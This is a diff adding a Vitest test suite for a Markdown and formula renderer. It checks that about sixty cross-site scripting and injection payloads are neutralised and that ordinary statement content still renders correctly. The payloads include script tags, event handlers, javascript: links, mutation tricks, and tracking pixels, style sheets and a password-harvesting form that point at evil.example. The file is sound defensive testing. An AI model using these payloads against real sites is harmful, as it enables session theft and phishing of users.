@@ -1,0 +1,211 @@
+import { describe, expect, test } from "vitest";
+import { renderMarkdown } from "./markdown.ts";
+
+const files = (name: string) => (name === "a.svg" ? "/api/problem-file/1/a.svg" : undefined);
+
+/** Whatever KaTeX itself makes, and what statements may hold. */
+const elements = new Set(
+  (
+    "h3 h4 h5 h6 p ul ol li dl dt dd blockquote pre table thead tbody tfoot tr th td caption figure " +
+    "figcaption hr div details summary center a b i u s em strong del ins mark sub sup small kbd samp " +
+    "var code span br img q cite abbr wbr math semantics annotation mrow mi mo mn msup msub mfrac " +
+    "mtext mstyle mspace mpadded menclose mtable mtr mtd msqrt munderover munder mover msubsup svg path line"
+  ).split(" "),
+);
+const attributes = new Set(
+  (
+    "href title rel src alt width height loading align colspan rowspan style scope start type tabindex " +
+    "open class xmlns encoding aria-hidden display mathvariant viewbox preserveaspectratio d " +
+    "mathcolor mathbackground scriptlevel displaystyle accent notation voffset"
+  ).split(" "),
+);
+
+/** Everything in HTML that is not on the lists above; a `<` that opens no tag counts too. */
+function strangers(html: string): string[] {
+  const found: string[] = [];
+  const tag = /<(?:\/?([a-z][\w-]*)((?:\s+[\w:-]+(?:=(?:"[^"]*"|'[^']*'))?)*)\s*\/?)>|</gi;
+  for (const [whole, name, list = ""] of html.matchAll(tag)) {
+    if (name === undefined || !elements.has(name.toLowerCase())) found.push(whole);
+    for (const [, key = "", value = ""] of list.matchAll(/([\w:-]+)(?:=["']([^"']*)["'])?/g)) {
+      if (!attributes.has(key.toLowerCase())) found.push(`${key} in ${whole}`);
+      const isAddress = key === "href" || key === "src";
+      const isSafe =
+        /^(?:https?:\/\/|mailto:|\/[^/\\]|#|\?)/i.test(value) &&
+        (key !== "src" || value.startsWith("/"));
+      if (isAddress && !isSafe) found.push(`${key}=${value}`);
+      if (key === "style" && /url|expression|position\s*:\s*fixed|import/i.test(value)) {
+        found.push(`style=${value}`);
+      }
+    }
+  }
+  return found;
+}
+
+/** Ways into a page, each with what it tries. */
+const payloads: [what: string, source: string][] = [
+  ["a script", "<script>alert(1)</script>"],
+  ["a script in odd case", "<ScRiPt src=//evil.example/x.js></sCrIpT>"],
+  ["a script torn in two", "<scr<script>ipt>alert(1)</scr</script>ipt>"],
+  ["an image's error", "<img src=x onerror=alert(1)>"],
+  ["an image's error without blanks", "<img/src=x/onerror=alert(1)>"],
+  ["a foreign picture that counts readers", "<img src=https://evil.example/pixel.png>"],
+  ["a foreign picture in Markdown", "![x](https://evil.example/pixel.png)"],
+  ["a picture from a protocol-relative address", "![x](//evil.example/pixel.png)"],
+  ["a picture from a backslash address", "![x](/\\evil.example/pixel.png)"],
+  ["a set of foreign pictures", "<img srcset='https://evil.example/p.png 2x' src=a.svg>"],
+  ["an SVG's load", "<svg onload=alert(1)><circle r=1></svg>"],
+  ["an SVG's script", "<svg><script>alert(1)</script></svg>"],
+  [
+    "an SVG's animated link",
+    "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
+  ],
+  ["a javascript link", "[x](javascript:alert(1))"],
+  ["a javascript link in odd case", "[x](JaVaScRiPt:alert(1))"],
+  ["a javascript link by entities", "<a href='&#106;avascript:alert(1)'>x</a>"],
+  ["a javascript link split by a tab", "<a href='java&#9;script:alert(1)'>x</a>"],
+  ["a javascript link after a control character", "<a href='\u0001javascript:alert(1)'>x</a>"],
+  ["a vbscript link", "<a href=vbscript:msgbox(1)>x</a>"],
+  ["a data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
+  ["a data picture with a script", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>"],
+  ["an autolink", "<javascript:alert(1)>"],
+  ["a link reference", "[x][y]\n\n[y]: javascript:alert(1)"],
+  ["a frame", "<iframe src=javascript:alert(1)></iframe>"],
+  ["a frame's own document", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"],
+  ["an object", "<object data=javascript:alert(1)></object>"],
+  ["an embed", "<embed src=javascript:alert(1)>"],
+  ["a base address", "<base href=https://evil.example/>"],
+  ["a refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>"],
+  ["a style sheet", "<style>@import 'https://evil.example/x.css'; body{display:none}</style>"],
+  ["a linked style sheet", "<link rel=stylesheet href=https://evil.example/x.css>"],
+  ["an overlay over the page", "<div style='position:fixed;inset:0;z-index:9999'>log in</div>"],
+  ["a foreign background", "<td style='background:url(https://evil.example/p)'>x</td>"],
+  [
+    "a form that asks for the password",
+    "<form action=https://evil.example><input name=password></form>",
+  ],
+  ["a button that submits elsewhere", "<button formaction=javascript:alert(1)>x</button>"],
+  ["details that open by themselves", "<details open ontoggle=alert(1)>x</details>"],
+  ["a field that grabs the focus", "<input autofocus onfocus=alert(1)>"],
+  ["a marquee", "<marquee onstart=alert(1)>x</marquee>"],
+  ["a video's error", "<video><source onerror=alert(1)></video>"],
+  ["mutation by math and style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
+  ["mutation by noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"],
+  ["mutation by a comment", "<!--><img src=x onerror=alert(1)>-->"],
+  ["mutation by template", "<template><img src=x onerror=alert(1)></template>"],
+  ["a name that hides the document's own", "<img name=getElementById><a id=cookie>x</a>"],
+  ["a class of the page's own", "<span class='mantine-Modal-root hljs-keyword'>x</span>"],
+  ["an attribute broken by a backtick", "<img src=`x` onerror=alert(1)>"],
+  ["an unclosed attribute", "<img src='x' title='\"><img src=x onerror=alert(1)>"],
+  ["a NUL in the tag", "<scr\0ipt>alert(1)</scr\0ipt>"],
+  ["a code fence's language", '```"><img src=x onerror=alert(1)>\ncode\n```'],
+  ["a code fence", "```html\n<script>alert(1)</script>\n```"],
+  ["a heading's text", "# <img src=x onerror=alert(1)>"],
+  ["a table cell", "|a|\n|-|\n|<svg/onload=alert(1)>|"],
+  ["a formula with a link", "$\\href{javascript:alert(1)}{x}$"],
+  ["a formula with HTML", "$\\htmlData{onclick=alert(1)}{x}$ $\\htmlStyle{position:fixed}{x}$"],
+  ["a formula with a picture", "$\\includegraphics{https://evil.example/p.png}$"],
+  ["a formula that is HTML", "$\\text{<img src=x onerror=alert(1)>}$"],
+  ["a broken formula that is HTML", "$\\frac{<img src=x onerror=alert(1)>$"],
+  ["a formula's macro that never ends", "$\\def\\a{\\a\\a}\\a$"],
+  ["a formula as big as the page", "$\\rule{999999em}{999999em}$"],
+];
+
+test.each(payloads)("%s does nothing", (_what, source) => {
+  const html = renderMarkdown(source, files);
+  expect(strangers(html)).toEqual([]);
+  expect(html).not.toMatch(/class="[^"]*mantine/);
+});
+
+test("the judge of the table above sees what is wrong", () => {
+  for (const bad of [
+    "<script>",
+    '<img src="https://evil.example/p.png">',
+    '<p onclick="x">',
+    '<a href="javascript:x">',
+    "a < b",
+    '<td style="background:url(x)">',
+    '<div id="x">',
+  ]) {
+    expect(strangers(bad), bad).not.toEqual([]);
+  }
+});
+
+describe("what statements need stays", () => {
+  test("own files, by any of their relative names", () => {
+    for (const name of ["a.svg", "./a.svg", "files/a.svg"]) {
+      const address = (each: string) => files(each.replace(/^(?:\.\/)?(?:files\/)?/, ""));
+      expect(renderMarkdown(`![pic](${name})`, address)).toBe(
+        '<p><img src="/api/problem-file/1/a.svg" alt="pic" loading="lazy" /></p>\n',
+      );
+    }
+  });
+
+  test("a foreign picture becomes a link with its words", () => {
+    expect(renderMarkdown("![a map](https://example.org/m.png)")).toBe(
+      '<p><a href="https://example.org/m.png" rel="noopener noreferrer nofollow">a map</a></p>\n',
+    );
+  });
+
+  test("links, whole addresses and nothing that only looks like one", () => {
+    const html = renderMarkdown(
+      "[a](https://example.org) https://example.org/b main.py [c](/problem/1)",
+    );
+    expect([...html.matchAll(/href="([^"]+)"/g)].map(([, to]) => to)).toEqual([
+      "https://example.org",
+      "https://example.org/b",
+      "/problem/1",
+    ]);
+  });
+
+  test("formulas in all four delimiters, also beside less-than signs", () => {
+    const html = renderMarkdown("$a<b$ \\(c\\)\n\n\\[\nd\n\\]\n\n$$\ne > f\n$$\n");
+    expect(html.match(/class="katex"/g)).toHaveLength(4);
+    expect(html).toContain('<annotation encoding="application/x-tex">a&lt;b</annotation>');
+  });
+
+  test("a price is no formula, code holds none", () => {
+    const html = renderMarkdown("costs $5 and $6\n\n`$x$`");
+    expect(html).not.toContain("katex");
+    expect(html).toContain("<code>$x$</code>");
+  });
+
+  test("a formula that cannot be read is shown as it is, and the rest goes on", () => {
+    const html = renderMarkdown("$\\frac{1$ and $x$");
+    expect(html).toContain("katex-error");
+    expect(html).toContain("mathnormal");
+  });
+
+  test("a macro of one statement is not known in the next", () => {
+    renderMarkdown("$\\gdef\\mine{x}$");
+    expect(renderMarkdown("$\\mine$")).toContain("mathcolor");
+  });
+
+  test("listings are coloured by language and can be reached by keyboard; unknown ones stay plain", () => {
+    const html = renderMarkdown("```cpp\nint a = 1;\n```\n\n```brainfish\n<>\n```");
+    expect(html).toContain('<pre tabindex="0"><code class="language-cpp"><span class="hljs-type">');
+    expect(html).toContain("&lt;&gt;");
+  });
+
+  test("a table keeps its alignment", () => {
+    expect(renderMarkdown("|a|b|\n|:-:|-:|\n|1|2|")).toContain('style="text-align:right"');
+  });
+
+  test("headings go below the page's own", () => {
+    expect(renderMarkdown("# one\n\n## two\n\n###### six")).toBe(
+      "<h3>one</h3>\n<h4>two</h4>\n<h6>six</h6>\n",
+    );
+  });
+
+  test("HTML of imported statements: tables, superscripts, centred text", () => {
+    const html = renderMarkdown(
+      "<center>10<sup>9</sup></center><table><tr><td colspan=2>x</td></tr></table>",
+    );
+    expect(html).toContain("<center>10<sup>9</sup></center>");
+    expect(html).toContain('<td colspan="2">x</td>');
+  });
+
+  test("the same source gives the same HTML", () => {
+    const source = "$x$ and ![p](a.svg)";
+    expect(renderMarkdown(source, files)).toBe(renderMarkdown(source, files));
+  });
+});
